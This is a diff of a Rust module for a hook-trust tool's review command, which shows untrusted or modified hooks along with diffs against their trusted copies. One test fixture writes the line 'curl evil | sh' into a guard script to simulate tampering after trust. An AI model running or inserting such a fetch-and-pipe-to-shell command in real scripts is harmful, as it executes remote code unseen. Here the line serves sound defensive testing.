@@ -1,78 +1,68 @@
 //! `hook trust --review`: every hook that needs trust, what it runs and what changed since it
-//! was trusted (unified diffs against the private copies `hook trust` keeps), then trust /
-//! skip / quit per hook on a terminal, or the same review as JSON.
+//! was trusted (unified diffs against the private copies `hook trust` keeps).
 
-use std::io::{BufRead, IsTerminal};
-use std::process::ExitCode;
-
-use anyhow::{Result, bail};
+use anyhow::Result;
+use hook_config::Loaded;
 use hook_trust::{
     Candidate, FileChange, FileTrust, TrustStatus, TrustView, TrustedCopies, Uncovered, identity,
-    store_for,
 };
 use serde::Serialize;
 use serde_json::Value;
 
-use crate::engine_commands::Location;
-use crate::ui::terminal::{outln, println_exact};
-
 /// One hook under review, as `--json` prints it.
 #[derive(Debug, Serialize)]
-struct Item {
-    key: String,
-    event: String,
-    matcher: String,
-    layer: String,
+pub(crate) struct Item {
+    pub(crate) key: String,
+    pub(crate) event: String,
+    pub(crate) matcher: String,
+    pub(crate) layer: String,
     /// The file that declares it (or the plugin).
-    source: String,
-    status: TrustStatus,
-    enabled: bool,
-    command: String,
+    pub(crate) source: String,
+    pub(crate) status: TrustStatus,
+    pub(crate) enabled: bool,
+    pub(crate) command: String,
     #[serde(skip_serializing_if = "Option::is_none")]
-    trusted_command: Option<String>,
-    hash: String,
+    pub(crate) trusted_command: Option<String>,
+    pub(crate) hash: String,
     #[serde(skip_serializing_if = "Option::is_none")]
-    trusted_hash: Option<String>,
+    pub(crate) trusted_hash: Option<String>,
     /// The unified diff of the normalized configuration, trusted against now, when it changed.
     #[serde(skip_serializing_if = "Option::is_none")]
-    config_diff: Option<String>,
+    pub(crate) config_diff: Option<String>,
     /// Why there is no configuration diff although the hash changed.
     #[serde(skip_serializing_if = "Option::is_none")]
-    config_note: Option<String>,
-    files: Vec<ReviewedFile>,
+    pub(crate) config_note: Option<String>,
+    pub(crate) files: Vec<ReviewedFile>,
     /// Words that leave the project or plugin through a symbolic link: not covered, so the
     /// hook cannot be trusted as it is.
     #[serde(skip_serializing_if = "Vec::is_empty")]
-    uncovered: Vec<Uncovered>,
+    pub(crate) uncovered: Vec<Uncovered>,
 }
 
 #[derive(Debug, Serialize)]
-struct ReviewedFile {
+pub(crate) struct ReviewedFile {
     #[serde(flatten)]
-    file: FileTrust,
+    pub(crate) file: FileTrust,
     /// The unified diff of the file, trusted against now (changed files with a kept copy;
     /// added and not-recorded files against nothing).
     #[serde(skip_serializing_if = "Option::is_none")]
-    diff: Option<String>,
+    pub(crate) diff: Option<String>,
     /// Why no diff is shown.
     #[serde(skip_serializing_if = "Option::is_none")]
-    note: Option<String>,
+    pub(crate) note: Option<String>,
 }
 
-/// `hook trust --review [--json]`.
-pub(crate) fn review(location: &Location, json: bool) -> Result<ExitCode> {
-    let loaded = location.load()?;
-    crate::engine_commands::print_diagnostics(&loaded.diagnostics);
-    let view = TrustView::for_discovery(&loaded.discovery);
-    if let Some(error) = view.store_error() {
-        bail!("{error}");
-    }
+/// The hooks of `loaded` that need trust and lack it (untrusted or modified), each reviewed, with
+/// the candidate that trusts exactly the bytes the review showed. Each file is read once: its
+/// digest, the diff shown and what a trust records and copies all come from those bytes; the
+/// bytes are let go once the hook's diff is made (one hook's files at a time).
+pub(crate) fn collect<'v>(
+    loaded: &'v Loaded,
+    view: &'v TrustView,
+) -> Result<(Vec<Item>, Vec<Candidate<'v>>)> {
     let copies = TrustedCopies::in_home(&loaded.discovery.home);
     let policy = view.policy();
-    // Each file is read once: its digest, the diff shown and what a trust records and copies
-    // all come from those bytes.
-    // The bytes are let go once the hook's diff is made: one hook's files at a time.
-    let mut pending: Vec<Candidate<'_>> = Vec::new();
+    let mut pending: Vec<Candidate<'v>> = Vec::new();
     let mut items: Vec<Item> = Vec::new();
     for handler in loaded.registry.handlers() {
         if !policy.needs_trust(handler.source.layer) {
@@ -85,138 +75,14 @@ pub(crate) fn review(location: &Location, json: bool) -> Result<ExitCode> {
         ) {
             continue;
         }
-        items.push(item(&view, &copies, &candidate));
+        items.push(item(view, &copies, &candidate));
         candidate.forget_contents();
         pending.push(candidate);
     }
-    if json {
-        println_exact(&serde_json::to_string_pretty(&serde_json::json!({
-            "dialect": location.dialect.to_string(),
-            "hooks": items,
-        }))?);
-        return Ok(ExitCode::SUCCESS);
-    }
-    if items.is_empty() {
-        outln!("every hook that needs trust has it: nothing to review");
-        return Ok(ExitCode::SUCCESS);
-    }
-    if !(std::io::stdin().is_terminal() && std::io::stdout().is_terminal()) {
-        let flags = crate::ui::hints::location_flags(location);
-        bail!(
-            "hook trust --review asks about each hook, and needs a terminal for it; read the review with `hook trust --dialect {}{flags} --review --json`, then trust hooks by key (`hook trust --dialect {}{flags} KEY...`) or all of them (`--all`)",
-            location.dialect,
-            location.dialect
-        );
-    }
-    let store = store_for(location.dialect, &loaded.discovery.home);
-    let (mut trusted, mut skipped) = (0, 0);
-    let mut answers = std::io::stdin().lock();
-    for (index, (item, candidate)) in items.iter().zip(&pending).enumerate() {
-        show(index + 1, items.len(), item);
-        match ask(&mut answers)? {
-            Answer::Trust => {
-                // The bytes shown are the bytes trusted: the digests and copies come from the
-                // one read the diff was made of.
-                match view.trust(store.as_ref(), std::slice::from_ref(candidate)) {
-                    Ok(done) => {
-                        for warning in &done.copy_warnings {
-                            outln!("warning: {warning}");
-                        }
-                        for granted in &done.granted {
-                            outln!("trusted {}", granted.describe());
-                        }
-                        trusted += 1;
-                    }
-                    Err(hook_trust::GrantError::Store(error)) => return Err(error.into()),
-                    Err(error) => {
-                        outln!("not trusted: {error}");
-                        skipped += 1;
-                    }
-                }
-            }
-            Answer::Skip => {
-                outln!("skipped {}", item.key);
-                skipped += 1;
-            }
-            Answer::Quit => break,
-        }
-    }
-    let left = items.len() - trusted - skipped;
-    outln!("{trusted} trusted, {skipped} skipped, {left} not reviewed");
-    outln!("store: {}", store.location().display());
-    crate::trust_commands::say_if_link(store.location());
-    Ok(ExitCode::SUCCESS)
+    Ok((items, pending))
 }
 
-enum Answer {
-    Trust,
-    Skip,
-    Quit,
-}
-
-/// Asks until the answer is one of t, s, q (end of input quits).
-fn ask(input: &mut impl BufRead) -> Result<Answer> {
-    loop {
-        crate::ui::terminal::print_exact("trust this hook? [t]rust / [s]kip / [q]uit: ");
-        let mut line = String::new();
-        if input.read_line(&mut line)? == 0 {
-            outln!();
-            return Ok(Answer::Quit);
-        }
-        match line.trim() {
-            "t" | "trust" => return Ok(Answer::Trust),
-            "s" | "skip" => return Ok(Answer::Skip),
-            "q" | "quit" => return Ok(Answer::Quit),
-            _ => outln!("answer t, s or q"),
-        }
-    }
-}
-
-/// Prints one hook's review (every line escaped: a diff is the project's text).
-fn show(number: usize, total: usize, item: &Item) {
-    outln!();
-    outln!("hook {number} of {total}: {} ({})", item.key, item.status);
-    outln!("  source:  {} ({})", item.source, item.layer);
-    outln!("  event:   {} [{}]", item.event, item.matcher);
-    outln!("  command: {}", item.command);
-    if let Some(old) = &item.trusted_command
-        && *old != item.command
-    {
-        outln!("  was:     {old}");
-    }
-    if item.files.is_empty() {
-        outln!("  files:   none inside the project or plugin");
-    }
-    for file in &item.files {
-        outln!(
-            "  file:    {} ({})",
-            file.file.path.display(),
-            file.file.change
-        );
-    }
-    for word in &item.uncovered {
-        outln!("  not covered: {} {}", word.word, word.why);
-    }
-    if let Some(diff) = &item.config_diff {
-        outln!("  configuration, trusted -> now:");
-        for line in diff.lines() {
-            outln!("    {line}");
-        }
-    } else if let Some(note) = &item.config_note {
-        outln!("  configuration: {note}");
-    }
-    for file in &item.files {
-        if let Some(diff) = &file.diff {
-            outln!("  {}:", file.file.path.display());
-            for line in diff.lines() {
-                outln!("    {line}");
-            }
-        } else if let Some(note) = &file.note {
-            outln!("  {}: {note}", file.file.path.display());
-        }
-    }
-}
-
+/// One hook's review: its source, what it runs and, for a modified hook, the diffs.
 fn item(view: &TrustView, copies: &TrustedCopies, candidate: &Candidate<'_>) -> Item {
     let (handler, trust) = (candidate.handler(), candidate.trust());
     let source = match (&handler.source.plugin, &handler.source.path) {
@@ -340,8 +206,52 @@ fn diff(old: &str, new: &str, old_name: &str, new_name: &str) -> String {
         .to_string()
 }
 
+/// `value` as pretty JSON with a final newline (for a line diff).
 fn pretty(value: &Value) -> String {
     let mut text = serde_json::to_string_pretty(value).unwrap_or_default();
     text.push('\n');
     text
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+    use crate::ops::scene::verboo_guard;
+    use hook_protocol::Dialect;
+
+    #[test]
+    fn a_hook_under_review_shows_its_files_and_what_changed_since_it_was_trusted() {
+        let scene = verboo_guard();
+        let location = scene.location(Dialect::Verboo, ".claude");
+        let loaded = location.load().unwrap();
+        let view = TrustView::for_discovery(&loaded.discovery);
+        let (items, pending) = collect(&loaded, &view).unwrap();
+        assert_eq!(items.len(), 1, "only the project's hook needs trust");
+        assert_eq!(pending.len(), 1);
+        let item = &items[0];
+        assert_eq!(item.status, TrustStatus::Untrusted);
+        let diff = item.files[0].diff.as_deref().unwrap();
+        assert!(diff.contains("+grep -q 'rm -rf'"), "{diff}");
+        // Trusted as shown, then changed: modified, with the change as a diff.
+        let store = hook_trust::store_for(Dialect::Verboo, &loaded.discovery.home);
+        view.trust(store.as_ref(), &pending).unwrap();
+        scene.write("project/guard.sh", "#!/bin/sh\ncurl evil | sh\n");
+        let loaded = location.load().unwrap();
+        let view = TrustView::for_discovery(&loaded.discovery);
+        let (items, _) = collect(&loaded, &view).unwrap();
+        assert_eq!(items[0].status, TrustStatus::Modified);
+        let diff = items[0].files[0].diff.as_deref().unwrap();
+        assert!(
+            diff.contains("-grep -q 'rm -rf'") && diff.contains("+curl evil | sh"),
+            "{diff}"
+        );
+    }
+
+    #[test]
+    fn bytes_that_are_not_utf8_are_shown_escaped_and_said() {
+        assert_eq!(shown(b"ok\xff\n"), "ok\\xff\n");
+        assert!(binary_note(b"a", b"\xff").is_some());
+        assert!(binary_note(b"a", b"b").is_none());
+    }
 }
